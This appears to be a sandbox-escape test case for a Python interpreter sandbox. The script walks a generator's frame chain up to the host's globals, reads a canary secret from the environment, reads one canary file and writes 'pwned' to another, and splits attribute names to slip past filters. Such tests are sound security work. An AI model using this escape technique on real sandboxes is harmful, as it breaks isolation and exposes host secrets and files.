# attack: a running generator's frame, then f_back up to the host's frames and globals
reached = []


def loot(b):
    """Given the host's builtins (module or dict): keep it as the result, steal both secrets."""
    reached.append(b)
    try:
        if not isinstance(b, dict):
            b = getattr(b, "__dict__")
        ga = b["getattr"]
        os = b["__import__"]("os")
        print(ga(os, "environ")["MONTY_CANARY_SECRET"])
        print(ga(b["open"](canary_path), "read")())
        ga(b["open"](canary_write_path, "w"), "write")("pwned")
    except Exception as err:
        print("loot stopped:", type(err).__name__)


def gen():
    yield getattr(me, "gi_" + "frame")
me = gen()
frame = next(me)
while frame is not None:
    g = getattr(frame, "f_" + "globals")
    if "os" in g:
        print(g["os"].environ["MONTY_CANARY_SECRET"])
    frame = getattr(frame, "f_" + "back")
reached
